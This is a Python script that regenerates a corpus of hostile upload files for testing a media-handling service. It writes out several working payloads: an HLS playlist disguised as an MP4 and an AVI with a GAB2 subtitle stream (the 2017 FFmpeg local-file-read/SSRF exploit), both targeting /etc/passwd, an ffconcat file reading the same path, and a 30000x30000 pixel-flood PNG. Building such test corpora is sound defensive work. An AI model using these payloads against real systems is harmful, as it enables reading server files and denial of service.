#!/usr/bin/env python3
"""Regenerates the hostile-upload corpus in this directory (see README.md).

Standard library only; the bundled ffmpeg is needed for truncated.mp4 alone. It is found in the JavaCPP
cache (run FfmpegBinariesTest once to fill it) or taken from $FFMPEG, with $LD_LIBRARY_PATH as given.
Usage: python3 make-corpus.py [output-dir]
"""
import os
import struct
import subprocess
import sys
import tempfile
import zlib
from pathlib import Path

OUT = Path(sys.argv[1]) if len(sys.argv) > 1 else Path(__file__).resolve().parent
TARGET = "file:///etc/passwd"


def write(name, data):
    (OUT / name).write_bytes(data)
    print(f"{name:18} {len(data):>7} bytes")


def bundled_ffmpeg():
    if os.environ.get("FFMPEG"):
        return os.environ["FFMPEG"], dict(os.environ)
    cache = Path.home() / ".javacpp" / "cache"
    programs = sorted(p for p in cache.glob("ffmpeg-*/**/ffmpeg") if p.is_file())
    pulse = sorted(cache.glob("**/libpulse.so.0"))
    if not programs:
        sys.exit("no bundled ffmpeg under ~/.javacpp/cache: run FfmpegBinariesTest once, or set FFMPEG")
    dirs = [str(programs[-1].parent)] + [str(p.parent) for p in pulse[:1]]
    env = dict(os.environ)
    env["LD_LIBRARY_PATH"] = ":".join(dirs + [env.get("LD_LIBRARY_PATH", "")]).rstrip(":")
    return str(programs[-1]), env


def truncated_mp4():
    # No +faststart, so the moov atom is written last and cutting the file in half loses it.
    ffmpeg, env = bundled_ffmpeg()
    with tempfile.TemporaryDirectory() as tmp:
        whole = Path(tmp) / "whole.mp4"
        subprocess.run([ffmpeg, "-hide_banner", "-v", "error", "-y",
                        "-f", "lavfi", "-i", "testsrc2=size=320x240:rate=25:duration=2",
                        "-f", "lavfi", "-i", "sine=frequency=440:duration=2",
                        "-c:v", "libx264", "-preset", "veryfast", "-pix_fmt", "yuv420p", "-threads", "1",
                        "-c:a", "aac", "-b:a", "64k", "-shortest",
                        "-map_metadata", "-1", "-fflags", "+bitexact", "-flags", "+bitexact",
                        str(whole)], env=env, check=True)
        data = whole.read_bytes()
    assert data.rfind(b"moov") > len(data) // 2, "moov is not at the end"
    return data[: len(data) // 2]


def chunk(fourcc, payload):
    pad = b"\0" if len(payload) % 2 else b""
    return fourcc + struct.pack("<I", len(payload)) + payload + pad


def riff_list(kind, *chunks):
    return chunk(b"LIST", kind + b"".join(chunks))


def hls_in_avi():
    """RIFF/AVI whose only stream is a 'txts' (GAB2 subtitle) stream; its first packet carries an HLS
    playlist. Old FFmpeg probed the GAB2 payload with every demuxer and opened it as HLS, which then read
    the listed segment (the 2017 "AVI + GAB2 + HLS" local-file-read / SSRF exploit)."""
    playlist = ("#EXTM3U\n#EXT-X-VERSION:3\n#EXT-X-TARGETDURATION:1\n#EXT-X-MEDIA-SEQUENCE:0\n"
                f"#EXTINF:1.0,\n{TARGET}\n#EXT-X-ENDLIST\n").encode()
    # GAB2 header as read by avidec.c read_gab2_sub: "GAB2\0", version 2, description length + UTF-16LE
    # description, flags, data size, then the subtitle file itself.
    desc = "English\0".encode("utf-16-le")
    gab2 = (b"GAB2\0" + struct.pack("<H", 2) + struct.pack("<I", len(desc)) + desc
            + struct.pack("<H", 4) + struct.pack("<I", len(playlist)) + playlist)
    frames, rate = 25, 25
    avih = struct.pack("<IIIIIIIIII4I", 1_000_000 // rate, 0, 0, 0, frames, 0, 1, 0x100000, 320, 240,
                       0, 0, 0, 0)
    strh = struct.pack("<4s4sIHHIIIIIIIIhhhh", b"txts", b"\0\0\0\0", 0, 0, 0, 0, 1, rate, 0, frames,
                       len(gab2), 0xFFFFFFFF, 0, 0, 0, 320, 240)
    hdrl = riff_list(b"hdrl", chunk(b"avih", avih), riff_list(b"strl", chunk(b"strh", strh), chunk(b"strf", b"")))
    # More subtitle packets after the GAB2 one, so a demuxer keeps reading as it would through a real film.
    movi = riff_list(b"movi", chunk(b"00tx", gab2), *[chunk(b"00tx", b"\0" * 16)] * (frames - 1))
    body = b"AVI " + hdrl + movi
    return b"RIFF" + struct.pack("<I", len(body)) + body


def pixel_flood_png(side=30000):
    def png_chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    ihdr = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)  # 1-bit greyscale, no interlace
    row = b"\0" * (1 + (side + 7) // 8)  # filter byte "none" + all-black pixels
    z = zlib.compressobj(9)
    idat = b"".join(z.compress(row) for _ in range(side)) + z.flush()
    return b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", ihdr) + png_chunk(b"IDAT", idat) + png_chunk(b"IEND", b"")


def main():
    OUT.mkdir(parents=True, exist_ok=True)
    write("zero-bytes.mp4", b"")
    write("truncated.mp4", truncated_mp4())
    write("text-named.mp4", "关于开展民法典宣传月活动的通知\n各社区、各单位：\n请于本月底前报送活动方案。\n".encode())
    write("hls-playlist.mp4", ("#EXTM3U\n#EXT-X-VERSION:3\n#EXT-X-TARGETDURATION:10\n#EXT-X-MEDIA-SEQUENCE:0\n"
                               f"#EXTINF:10.0,\n{TARGET}\n#EXT-X-ENDLIST\n").encode())
    write("hls-in-avi.avi", hls_in_avi())
    write("concat.mp4", b"ffconcat version 1.0\nfile '/etc/passwd'\n")
    write("pixel-flood.png", pixel_flood_png())


if __name__ == "__main__":
    main()
